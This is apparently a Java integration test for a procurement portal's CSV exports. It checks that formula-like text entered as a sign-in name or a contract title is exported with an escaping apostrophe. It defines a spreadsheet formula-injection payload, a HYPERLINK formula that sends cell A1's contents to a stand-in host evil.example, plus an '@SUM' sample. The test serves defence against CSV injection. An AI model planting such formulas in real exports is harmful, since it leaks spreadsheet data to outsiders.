package eu.buyzet.portal.shared.export;

import static org.assertj.core.api.Assertions.assertThat;

import eu.buyzet.portal.PortalIntegrationTest;
import eu.buyzet.portal.TestUsers;
import eu.buyzet.portal.audit.AuditFilter;
import eu.buyzet.portal.audit.AuditTrail;
import eu.buyzet.portal.contract.ContractDetails;
import eu.buyzet.portal.contract.ContractExport;
import eu.buyzet.portal.contract.ContractMetric;
import eu.buyzet.portal.contract.ContractService;
import eu.buyzet.portal.footprint.calculator.EnergyCarrier;
import eu.buyzet.portal.footprint.calculator.Flow;
import eu.buyzet.portal.footprint.calculator.VehicleCategory;
import java.io.ByteArrayOutputStream;
import java.io.StringReader;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationEventPublisher;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.security.authentication.BadCredentialsException;
import org.springframework.security.authentication.UsernamePasswordAuthenticationToken;
import org.springframework.security.authentication.event.AuthenticationFailureBadCredentialsEvent;
import org.springframework.security.core.context.SecurityContextHolderStrategy;

/**
 * Text that outsiders typed reaches the portal's CSV exports: a name tried at sign-in, a contract's
 * title, a self-chosen display name. None of it may open as a formula in a spreadsheet.
 */
@PortalIntegrationTest
class CsvExportsIT {

    private static final String PAYLOAD = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";

    @Autowired SecurityContextHolderStrategy security;
    @Autowired JdbcClient jdbc;
    @Autowired AuditTrail audit;
    @Autowired ContractService contracts;
    @Autowired ApplicationEventPublisher events;

    @AfterEach
    void signOut() {
        TestUsers.signOut(security);
    }

    @Test
    void a_formula_tried_as_a_user_name_at_sign_in_reaches_the_audit_csv_as_text() throws Exception {
        events.publishEvent(new AuthenticationFailureBadCredentialsEvent(
                UsernamePasswordAuthenticationToken.unauthenticated(PAYLOAD, "x"), new BadCredentialsException("bad")));
        TestUsers.signIn(security, jdbc, "admin@demo.buyzet.eu");
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        audit.exportCsv(new AuditFilter("security.sign-in-failed", null, null, null, null, null), out);

        List<CSVRecord> rows = parse(out);
        assertThat(rows).extracting(r -> r.get("subject_id")).contains("'" + PAYLOAD).doesNotContain(PAYLOAD);
        assertThat(rows).allSatisfy(r -> java.util.Arrays.stream(r.values()).forEach(cell -> assertThat(cell).doesNotStartWith("=")));
    }

    @Test
    void a_contract_titled_with_a_formula_reaches_the_ranking_csv_as_text() throws Exception {
        TestUsers.signIn(security, jdbc, "agency@demo.buyzet.eu");
        contracts.create(new ContractDetails(PAYLOAD, "REF-CSV", List.of("90511000-2"), "@SUM(1+1)",
                new BigDecimal("100000"), "NOK", LocalDate.of(2028, 1, 31),
                List.of(Flow.distance(VehicleCategory.N1, EnergyCarrier.DIESEL, 100, 10))));
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ContractExport.csv(contracts.rankAll(null, ContractMetric.CO2E), java.util.Map.of(), key -> key, out);

        List<CSVRecord> rows = parse(out);
        assertThat(rows).anySatisfy(r -> {
            assertThat(r.values()).contains("'" + PAYLOAD, "'@SUM(1+1)");
        });
        assertThat(rows).allSatisfy(r -> java.util.Arrays.stream(r.values()).forEach(cell -> assertThat(cell).doesNotStartWith("=")
                .doesNotStartWith("@")));
    }

    private static List<CSVRecord> parse(ByteArrayOutputStream out) throws Exception {
        String text = out.toString(StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFF");
        return CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(text.substring(1))).getRecords();
    }
}
